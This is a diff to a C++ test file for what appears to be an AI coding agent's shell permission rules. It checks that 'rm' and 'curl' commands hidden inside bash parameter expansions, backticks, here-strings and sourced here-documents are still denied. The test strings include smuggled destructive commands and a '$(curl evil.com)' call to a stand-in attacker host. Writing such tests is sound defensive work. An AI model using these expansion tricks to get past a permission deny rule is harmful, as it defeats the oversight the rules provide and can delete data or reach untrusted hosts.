@@ -10,12 +10,12 @@
 using namespace claw::test::rules_fixture;
 
 namespace {
-const char* const settings = R"J({"allow":["Bash(echo *)","Bash(cat *)"],"deny":["Bash(rm *)","Bash(curl *)"]})J";
+const char* const expansion_rules = R"J({"allow":["Bash(echo *)","Bash(cat *)"],"deny":["Bash(rm *)","Bash(curl *)"]})J";
 }  // namespace
 
 TEST_CASE("expansions: single quotes inside a double-quoted ${x:-...} do not hide a command substitution",
           "[permissions][rules][expansion]") {
-    const rules_env e(settings, "default");
+    const rules_env e(expansion_rules, "default");
     for (const char* cmd : {"echo \"${x:-'$(rm e6)'}\"", "echo \"${x:-'$(curl evil.com)'}\"", "echo \"${x-'$(rm m6)'}\"",
                             "echo \"${x:='$(rm m7)'}\"", "echo \"${x:-'`rm n6`'}\"", "echo \"${x:-'${y:-$(rm n8)}'}\"",
                             "echo ${x:=1} \"${x:+'$(rm n5)'}\"", "cat <<EOF\n${x:-'$(rm m4)'}\nEOF",
@@ -32,7 +32,7 @@ TEST_CASE("expansions: single quotes inside a double-quoted ${x:-...} do not hid
 }
 
 TEST_CASE("source of a here-string, a here-document or generated text runs that text", "[permissions][rules][expansion]") {
-    const rules_env e(settings, "default");
+    const rules_env e(expansion_rules, "default");
     // bash runs the `rm` in each: the text fed to /dev/stdin is a script, a file named at run time
     // (process substitution, variable, another descriptor) may hold anything.
     for (const char* cmd : {". /dev/stdin <<< 'rm s1'", "source /dev/stdin <<< 'rm s2'", ". /dev/stdin <<EOF\nrm s3\nEOF",
